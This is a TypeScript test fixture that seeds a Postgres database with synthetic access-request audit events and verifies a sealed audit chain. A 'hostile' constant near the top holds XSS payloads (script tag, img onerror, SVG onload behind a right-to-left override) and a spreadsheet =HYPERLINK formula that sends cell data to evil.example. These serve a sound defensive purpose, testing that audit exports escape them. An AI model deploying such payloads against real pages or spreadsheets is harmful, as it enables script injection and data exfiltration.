import { createHash, generateKeyPairSync } from "node:crypto";
import { pino } from "pino";
import { Client } from "pg";
import { startSealer } from "../../src/audit/chain/seal.ts";
import { signingKeyFrom } from "../../src/audit/chain/signing-key.ts";
import { verifyChain, type Verification } from "../../src/audit/verify/verify.ts";
import type { AuditEvent } from "../../src/domain/audit-event.ts";
import { refusalText } from "../../src/domain/refusal.ts";
import type { Terms } from "../../src/domain/request/request.ts";
import { recordEvent } from "../../src/persistence/audit.ts";
import { openDatabase } from "../../src/persistence/database/database.ts";
import type { EventContext } from "../../src/persistence/requests/event-rows.ts";
import { forgetPerson } from "../../src/persistence/personal/forget.ts";

/** What people and providers may write, of the kind that must stay text. */
export const hostile = {
  reason: `</td><script>document.title="owned"</script><img src=x onerror=alert(1)>`,
  note: `=HYPERLINK("https://evil.example/"&A1)`,
  why: `unusual hour\u202e"><svg onload=alert(1)>`,
};

const specialId = "00000000-0000-7000-8000-0000000000";

/**
 * The third quarter of 2025 in the audit of an empty database: 400 requests in a regular pattern, and after them what is rare.
 * 14 of 20 requests are approved by people after 20 s, 100 s, … and give access; 2 by a rule, and 1 each is denied, refused, expired and cancelled.
 */
export async function fillQuarter(databaseUrl: string): Promise<void> {
  const client = new Client({ connectionString: databaseUrl });
  await client.connect();
  try {
    await client.query("insert into policies (hash, text) values ($1, 'version: 1')", [policyVersion]);
    await client.query(bulk);
    await client.query(bulkEvents);
    await recordRare(databaseUrl, client);
  } finally {
    await client.end();
  }
}

/** Seals what is there, and verifies it as `hallpass audit verify` does. */
export async function sealAll(databaseUrl: string): Promise<Verification> {
  const database = openDatabase(databaseUrl);
  const sealer = startSealer({ db: database.prisma, log: pino({ level: "silent" }) });
  try {
    let sealed = 1;
    while (sealed > 0) sealed = await sealer.seal();
  } finally {
    await sealer.stop();
    await database.close();
  }
  const pem = generateKeyPairSync("ed25519").privateKey.export({ type: "pkcs8", format: "pem" }).toString();
  return verifyChain({ databaseUrl }, { keys: [signingKeyFrom(pem, "test").publicKey] });
}

const policyVersion = createHash("sha256").update("version: 1").digest("hex");

const bulk = `
  insert into access_requests (id, number, status, source, requester_email, requester_name, requester_person, resource, role, duration_seconds, reason,
    policy_version, terms, planned, created_at)
  select lpad(to_hex(n), 32, '0')::uuid, 1000 + n, 'approved', 'slack', 'p' || n % 9 || '@example.com', 'P', test_person('p' || n % 9 || '@example.com'), r.resource, 'read', 3600, 'x',
         '${policyVersion}', jsonb_build_object('risk', r.risk), '[]', now()
  from generate_series(1, 400) n
  cross join lateral (select (array['orders-db', 'billing-db', 'staging-cluster', 'wiki'])[n % 4 + 1] as resource,
                             (array['high', 'medium', 'low', 'low'])[n % 4 + 1] as risk) r`;

const bulkEvents = `
  insert into audit_events (id, at, type, request_id, request_number, grant_id, actor_kind, actor_email, requester_email, resource, role, rule, policy_version, data)
  select gen_random_uuid(), e.at, e.type, r.id, r.number, case when e.type like 'grant.%' then r.id end, e.actor,
         case e.actor when 'person' then 'lead@example.com' end, r.requester_email, r.resource, r.role,
         case when r.number % 20 = 17 then null else 'rule of ' || r.resource end, '${policyVersion}', e.data
  from access_requests r
  cross join lateral (select r.number % 20 as kind, r.number - 1000 as n,
    timestamptz '2025-07-02T22:00Z' + (r.number - 1000) * interval '4 hours 50 minutes' + sin(r.number) * interval '40 hours' as filed,
    20 * (1 + r.number % 20 * r.number % 97 * 4) * interval '1 second' as wait) k
  cross join lateral (values
    (filed, case kind when 17 then 'request.refused' else 'request.created' end, 'person', '{"reason":"x","source":"slack","durationSeconds":3600}'::jsonb),
    (filed + wait, case when kind < 14 then 'request.approved' when kind = 16 then 'request.denied' end, 'person', '{}'),
    (filed, case when kind in (14, 15) then 'request.approved' end, 'policy', '{}'),
    (filed + interval '2 hours', case kind when 18 then 'request.expired' when 19 then 'request.cancelled' end, 'hallpass', '{}'),
    (filed + wait, case when kind < 16 then 'grant.active' end, 'hallpass', jsonb_build_object('standing', kind = 3)),
    (filed + wait + interval '1 hour', case when kind < 16 then 'grant.revoked' end, 'hallpass',
      jsonb_build_object('reason', (array['expired', 'expired', 'returned'])[n % 3 + 1], 'verified', kind <> 3, 'standing', kind = 3))
  ) as e (at, type, actor, data)
  where e.type is not null order by e.at`;

async function recordRare(databaseUrl: string, client: Client): Promise<void> {
  const database = openDatabase(databaseUrl);
  let minutes = 0;
  const record = (event: Omit<AuditEvent, "at">, request?: EventContext): Promise<boolean> => {
    minutes += 30;
    const at = new Date(Date.parse("2025-09-27T08:00Z") + minutes * 60_000);
    // The type and its data come together from below.
    // oxlint-disable-next-line typescript/no-unsafe-type-assertion
    return recordEvent(database.prisma, { ...event, at } as AuditEvent, request && { request });
  };
  const hallpass = { kind: "hallpass" } as const;
  const by = (email: string) => ({ kind: "person", email }) as const;
  try {
    const gone = await special(client, 1, "gone@example.com");
    const erin = await special(client, 2, "erin@example.com");
    for (const request of [gone, erin]) {
      const data = { reason: hostile.reason, source: "slack", durationSeconds: 3600 };
      await record({ type: "request.created", actor: by(request.requester.email), data }, request);
      const glass = { reviewers: ["dana@example.com"], reviewBy: "2025-09-28T08:00:00.000Z" };
      await record({ type: "break_glass.used", actor: by(request.requester.email), data: glass }, request);
      // As older versions logged it.
      if (request === gone) {
        const actor = by(request.requester.email);
        await record({ type: "request.approved", actor, data: { approvers: [] } }, request);
      }
      const active = { provider: "orders-postgres", subject: "s", activeAt: "2025-09-27T10:00:00.000Z" };
      const data2 = { ...active, expiresAt: "2025-09-27T11:00:00.000Z" };
      await record({ type: "grant.active", actor: hallpass, grantId: request.id, data: data2 }, request);
    }
    const review = { name: "Dana", verdict: "object", note: hostile.note } as const;
    await record({ type: "break_glass.reviewed", actor: by("dana@example.com"), data: review }, erin);
    for (const person of ["erin@example.com", "erin@example.com"]) {
      const refused = { attempted: "approve", why: refusalText.own_request };
      await record({ type: "decision.refused", actor: by(person), data: refused }, erin);
    }
    const stranger = { attempted: "approve", why: refusalText.not_approver };
    await record({ type: "decision.refused", actor: by("mallory@example.com"), data: stranger }, erin);
    for (const lateSeconds of [60, 4_000]) {
      const overdue = { access: "orders-db:write", provider: "orders-postgres", subject: "s", lateSeconds };
      const data = { ...overdue, since: "2025-09-27T11:00:00.000Z", step: 1, attempts: 3 };
      await record({ type: "revocation.overdue", actor: hallpass, grantId: erin.id, data }, erin);
    }
    const found = { provider: "orders-postgres", subject: "intruder", target: { role: "orders_write" } };
    const finding = { ...found, access: ["orders-db:write"], people: [], outcome: "reported" };
    await record({ type: "drift.found", actor: hallpass, data: finding });
    await client.query(
      `insert into audit_events (id, at, type, request_id, request_number, actor_kind, requester_email, resource, role, data)
       select gen_random_uuid(), '2025-09-29T10:00Z', 'request.flagged', $1, $2, 'hallpass', 'erin@example.com', 'orders-db', 'write', $3::jsonb`,
      [
        erin.id,
        erin.number,
        JSON.stringify({ flags: [{ kind: "unusual_hour", why: hostile.why }, { kind: "first_time" }] }),
      ],
    );
    // After the period, and of it all the same.
    await client.query(
      `insert into audit_events (id, at, type, actor_kind, data) values (gen_random_uuid(), '2025-10-01T00:00Z', 'request.denied', 'hallpass', '{}')`,
    );
    await client.query(
      "update access_requests set status = 'cancelled' where requester_email = 'gone@example.com'",
    );
    const forgotten = await forgetPerson(databaseUrl, "gone@example.com");
    if (!forgotten.forgotten) throw new Error(`not forgotten: ${forgotten.refusal.kind}`);
  } finally {
    await database.close();
  }
}

const terms: Terms = {
  verdict: "allow",
  risk: "high",
  resourceTitle: "Orders",
  roleTitle: "Read and write",
  channel: "#c",
  alerts: "#a",
  steps: [],
};

async function special(client: Client, place: number, email: string): Promise<EventContext> {
  const id = `${specialId}0${place}`;
  const number = 2_000 + place;
  const met = await client.query<{ person: number }>("select test_person($1) as person", [email]);
  const person = met.rows[0]?.person ?? 0;
  await client.query(
    `insert into access_requests (id, number, status, source, requester_email, requester_name, requester_person, resource, role, duration_seconds, reason,
       policy_version, terms, planned, created_at)
     values ($1, $2, 'approved', 'slack', $3, 'X', $5, 'orders-db', 'write', 3600, 'x', '${policyVersion}', $4, '[]', now())`,
    [id, number, email, JSON.stringify(terms), person],
  );
  const requester = { id: person, email, name: email };
  return {
    id,
    number,
    requester,
    resource: "orders-db",
    role: "write",
    rule: "on-call writes",
    policyVersion,
  };
}
